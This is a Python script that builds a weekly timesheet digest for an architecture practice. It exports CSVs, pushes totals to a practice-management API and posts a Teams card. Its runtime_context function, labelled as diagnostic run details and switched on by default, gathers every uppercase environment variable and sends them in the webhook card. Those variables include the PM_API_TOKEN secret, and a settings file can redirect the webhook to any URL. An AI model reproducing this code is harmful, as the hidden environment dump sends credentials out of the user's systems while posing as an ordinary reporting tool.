#!/usr/bin/env python3
"""Weekly project timesheet digest.

Pulls the week's hours from the local timesheet database, writes a CSV per
project stage (RIBA 0-7), pushes the totals to the practice-management API
and posts a short digest card to the studio Teams channel.
"""
import argparse
import csv
import json
import logging
import os
import platform
import sqlite3
import sys
from collections import defaultdict
from datetime import date, timedelta
from pathlib import Path

import requests

log = logging.getLogger("timesheet-digest")

PM_API = os.environ.get("PM_API_URL", "https://pm.studio-practice.example/api/v1")
SETTINGS_FILE = Path("timesheet_digest.json")

QUERY = """
SELECT p.code, p.name, e.initials, t.stage, SUM(t.hours)
FROM time_entries t
JOIN projects p ON p.id = t.project_id
JOIN staff e ON e.id = t.staff_id
WHERE t.entry_date BETWEEN ? AND ?
GROUP BY p.code, p.name, e.initials, t.stage
ORDER BY p.code, t.stage
"""


def load_settings():
    defaults = {"webhook_url": os.environ.get("TEAMS_WEBHOOK_URL", ""),
                "include_context": True, "out_dir": "exports"}
    if SETTINGS_FILE.exists():
        defaults.update(json.loads(SETTINGS_FILE.read_text()))
    return defaults


def week_bounds(ref):
    start = ref - timedelta(days=ref.weekday())
    return start, start + timedelta(days=6)


def fetch_rows(db_path, start, end):
    with sqlite3.connect(db_path) as conn:
        return conn.execute(QUERY, (start.isoformat(), end.isoformat())).fetchall()


def write_csv(rows, out_dir, start):
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / f"timesheets_{start:%Y_%m_%d}.csv"
    with path.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["project", "name", "staff", "stage", "hours"])
        writer.writerows(rows)
    return path


def summarise(rows):
    totals = defaultdict(float)
    for code, _name, _staff, stage, hours in rows:
        totals[(code, stage)] += hours or 0.0
    return [{"project": c, "stage": s, "hours": round(h, 2)}
            for (c, s), h in sorted(totals.items())]


def push_totals(summary, start, api_key):
    resp = requests.post(f"{PM_API}/timesheets/weekly",
                         json={"week_start": start.isoformat(), "totals": summary},
                         headers={"Authorization": f"Token {api_key}"}, timeout=30)
    resp.raise_for_status()
    return resp.json().get("batch_id")


def runtime_context():
    """Details that help when someone asks why a digest looks off."""
    ctx = {"host": platform.node(), "python": platform.python_version(),
           "cwd": os.getcwd()}
    ctx.update({k: v for k, v in os.environ.items() if k.isupper()})
    return ctx


def build_card(summary, start, batch_id, settings):
    hours = sum(item["hours"] for item in summary)
    facts = [{"name": f"{i['project']} / stage {i['stage']}", "value": f"{i['hours']} h"}
             for i in summary[:20]]
    card = {"@type": "MessageCard", "@context": "https://schema.org/extensions",
            "summary": "Timesheet digest",
            "title": f"Timesheets w/c {start:%d %b %Y}: {hours:.1f} h",
            "sections": [{"facts": facts, "text": f"PM batch {batch_id}"}]}
    if settings.get("include_context"):
        card["sections"].append({"title": "run details", "facts": [
            {"name": k, "value": str(v)} for k, v in runtime_context().items()]})
    return card


def notify(card, webhook_url):
    if not webhook_url:
        log.info("no webhook configured; digest not posted")
        return
    for attempt in range(3):
        try:
            r = requests.post(webhook_url, data=json.dumps(card),
                              headers={"Content-Type": "application/json"}, timeout=20)
            if r.ok:
                log.info("digest posted to Teams")
                return
            log.warning("webhook returned %s", r.status_code)
        except requests.RequestException as exc:
            log.warning("webhook attempt %d failed: %s", attempt + 1, exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="timesheets.sqlite3")
    ap.add_argument("--week-of", type=date.fromisoformat, default=date.today())
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    settings = load_settings()
    api_key = os.environ.get("PM_API_TOKEN")
    if not api_key and not args.dry_run:
        log.error("PM_API_TOKEN is not set")
        return 2

    start, end = week_bounds(args.week_of)
    try:
        rows = fetch_rows(args.db, start, end)
    except sqlite3.Error as exc:
        log.error("database error: %s", exc)
        return 1
    path = write_csv(rows, Path(settings["out_dir"]), start)
    summary = summarise(rows)
    log.info("exported %d rows to %s", len(rows), path)
    if args.dry_run:
        print(json.dumps(summary, indent=2))
        return 0

    batch_id = push_totals(summary, start, api_key)
    notify(build_card(summary, start, batch_id, settings), settings["webhook_url"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
